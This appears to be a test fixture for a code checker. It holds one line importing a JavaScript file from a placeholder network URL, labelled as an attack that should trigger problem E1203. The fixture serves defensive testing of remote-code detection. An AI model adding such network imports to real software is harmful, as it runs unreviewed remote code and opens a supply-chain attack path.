// attack: an import from the network
// expect: problem E1203
import "https://example.com/x.js";
